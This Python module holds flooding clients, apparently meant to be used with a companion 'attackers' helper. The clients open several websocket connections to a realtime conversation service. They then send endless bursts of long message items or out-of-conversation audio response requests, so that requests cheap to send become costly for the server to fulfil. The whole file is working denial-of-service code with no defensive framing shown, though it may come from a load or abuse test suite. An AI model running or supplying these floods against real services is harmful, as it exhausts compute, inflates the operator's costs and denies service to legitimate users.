"""Clients that flood a session with what is cheap to ask for and dear to do; see ``attackers``."""

import threading
import time
from collections.abc import Callable
from typing import Any

from attackers import _in_threads, _swallow, frame, websocket

_AGAIN_S = 0.1


def items(url: str, role: str, chars: int, connections: int, per_burst: int = 200) -> None:
    """Items of so many characters, as fast as they are taken, from several connections."""
    text = ("to be or not to be " * (chars // 19 + 1))[:chars]
    _flood(url, frame(_item(role, text)) * per_burst, connections)


def responses(url: str, connections: int, kind: str = "audio", per_burst: int = 64) -> None:
    """Responses outside the conversation, so many at a time, again and again."""
    response = {"conversation": "none", "output_modalities": [kind]}
    burst = frame({"type": "response.create", "response": response}) * per_burst
    _flood(url, burst, connections, frame(_item("user", "Tell me all you know.")))


def _flood(url: str, burst: bytes, connections: int, first: bytes = b"") -> None:
    def once(say: Callable[[], None]) -> None:
        with websocket(url) as connection:
            threading.Thread(target=_swallow, args=(connection,), daemon=True).start()
            connection.sendall(first + burst)
            say()
            while True:
                connection.sendall(burst)
                time.sleep(_AGAIN_S)

    _in_threads(once, connections)


def _item(role: str, text: str) -> dict[str, Any]:
    kind = "output_text" if role == "assistant" else "input_text"
    item = {"type": "message", "role": role, "content": [{"type": kind, "text": text}]}
    return {"type": "conversation.item.create", "item": item}
